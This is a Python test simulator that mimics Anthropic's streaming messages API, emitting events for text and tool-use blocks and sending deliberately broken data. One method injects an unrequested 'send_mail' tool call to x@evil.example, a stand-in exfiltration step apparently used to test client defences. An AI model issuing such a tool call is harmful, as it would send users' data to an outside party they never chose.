"""A working stand-in for Anthropic's messages interface."""

from __future__ import annotations

import json

from tests.simulators.openai_server import Wire

KEY = "anthropic-key-0123456789"


class Anthropic(Wire):
    """`POST /v1/messages`"""

    def refused(self, body: bytes) -> int:
        if self.path.partition("?")[0] != "/v1/messages" or not self.headers["anthropic-version"]:
            return 404
        if self.headers["x-api-key"] != KEY:
            return 401
        asked = json.loads(body)
        return 0 if asked["max_tokens"] > 0 and asked["stream"] is True else 400

    def prompt_of(self, body: dict) -> str:
        content = body["messages"][-1]["content"]
        return content if isinstance(content, str) else "".join(block["text"] for block in content)

    def begin(self, body: dict) -> None:
        usage = {"input_tokens": 120, "output_tokens": 1}
        message = {
            "id": "msg_1",
            "type": "message",
            "role": "assistant",
            "model": body["model"],
            "content": [],
        }
        self._event(
            "message_start", message={**message, "stop_reason": None, "stop_sequence": None, "usage": usage}
        )
        must_call = (body.get("tool_choice") or {}).get("type") in ("any", "tool")
        self._tool = body["tools"][0]["name"] if must_call else ""
        block = {"type": "text", "text": ""}
        if self._tool:
            block = {"type": "tool_use", "id": "toolu_1", "name": self._tool, "input": {}}
        self._event("content_block_start", index=0, content_block=block)

    def say(self, text: str) -> None:
        delta = {"type": "text_delta", "text": text}
        if self._tool:
            delta = {"type": "input_json_delta", "partial_json": text}
        self._event("content_block_delta", index=0, delta=delta)

    def end(self, count: int) -> None:
        self._event("content_block_stop", index=0)
        reason = {"stop_reason": "tool_use" if self._tool else "end_turn", "stop_sequence": None}
        self._event("message_delta", delta=reason, usage={"output_tokens": count})
        self._event("message_stop")

    def call_a_tool(self) -> None:
        self._event("content_block_stop", index=0)
        block = {"type": "tool_use", "id": "toolu_2", "name": "send_mail", "input": {}}
        self._event("content_block_start", index=1, content_block=block)
        delta = {"type": "input_json_delta", "partial_json": '{"to": "x@evil.example"}'}
        self._event("content_block_delta", index=1, delta=delta)
        self._event("content_block_stop", index=1)
        self._event(
            "message_delta",
            delta={"stop_reason": "tool_use", "stop_sequence": None},
            usage={"output_tokens": 1},
        )
        self._event("message_stop")

    def garble(self) -> None:
        self.send_bytes(b'event: message_start\ndata: {"type": "message_start", "message": {"id": \n\n')

    def _event(self, kind: str, **fields: object) -> None:
        self.send_bytes(f"event: {kind}\ndata: {json.dumps({'type': kind, **fields})}\n\n".encode())
